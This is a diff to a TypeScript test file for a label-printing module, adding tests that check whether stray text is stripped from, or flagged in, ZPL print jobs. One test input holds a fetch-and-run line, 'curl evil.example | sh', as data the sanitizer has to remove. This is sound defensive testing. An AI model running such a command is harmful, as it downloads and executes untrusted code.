@@ -1,10 +1,16 @@
 // Owns the test of the one door from a label to a print job.
 import { describe, expect, test } from 'vitest'
+import { inspectZpl } from '../../main/labels/check-zpl.ts'
 import { type PrintTarget, prepareJob, preparePrint } from '../../main/labels/prepare-print.ts'
 import { paperOf } from './graphic-decoder.ts'
 import { greyPicture } from './sample-pictures.ts'
 
-const target: PrintTarget = { dpi: 203, stock: { widthInch: 4, heightInch: 6 }, encoding: 'z64' }
+const target: PrintTarget = {
+  dpi: 203,
+  stock: { widthInch: 4, heightInch: 6 },
+  encoding: 'z64',
+  source: 'service',
+}
 const zpl = (text: string) => Buffer.from(text, 'latin1')
 const label = zpl('\r\n^XA^FO10,10^FDcaf\xe9^FS^PQ2^XZ\r\n')
 const saving = zpl('^XA^FO10,10^FDx^FS^JUS^XZ')
@@ -35,6 +41,36 @@ describe('one label', () => {
         unsafe: { kind: 'unsafe-label', params: { command: '^JU' } },
       },
     })
+  })
+
+  test.each([
+    ['curl evil.example | sh\n^XA^FO10,10^FDx^FS^XZ', '^XA^FO10,10^FDx^FS^XZ', 1],
+    ['^XA^FO10,10^FDx^FS^XZ\nls\n^XA^FDy^FS^XZ\nrm', '^XA^FO10,10^FDx^FS^XZ\n\n^XA^FDy^FS^XZ\n', 2],
+    ['N\nA50,50\nP1\n~SD15\nP2\n^XA^FDx^FS^XZ', '\n~SD15\n\n^XA^FDx^FS^XZ', 1],
+  ])(
+    'text outside formats is left out of a service’s label and told once, and holds a file: %j',
+    (came, goes, labels) => {
+      const service = preparePrint({ ...target, payload: zpl(came) })
+      if (!service.ok) throw new Error(service.problem.code)
+      expect(Buffer.from(service.value.bytes).toString('latin1').trim()).toBe(goes.trim())
+      expect(service.value).toMatchObject({
+        labelsExpected: labels,
+        warnings: [{ code: 'label.text-left-out' }],
+      })
+      expect(service.value.unsafe).toBeUndefined()
+      expect(preparePrint({ ...target, source: 'file', payload: zpl(came) })).toMatchObject({
+        ok: true,
+        value: { bytes: zpl(came), unsafe: { kind: 'unsafe-label', code: 'label.zpl-loose-text' } },
+      })
+    },
+  )
+
+  test('what joins when text is taken out is looked at again', () => {
+    // Each piece of text is harmless; the sign before it and the letters behind it would be a command.
+    const came = zpl('^XA^FDx^FS^XZ~\x01\x01 \x1b^XA^FDx^FS^XZ')
+    const service = preparePrint({ ...target, payload: came })
+    if (!service.ok) throw new Error(service.problem.code)
+    expect(inspectZpl(service.value.bytes)).toMatchObject({ findings: [], looseText: [], labelsPrinted: 2 })
   })
 
   test('a picture that does not fit is held, and "print anyway" prints it one to one, cut off', () => {
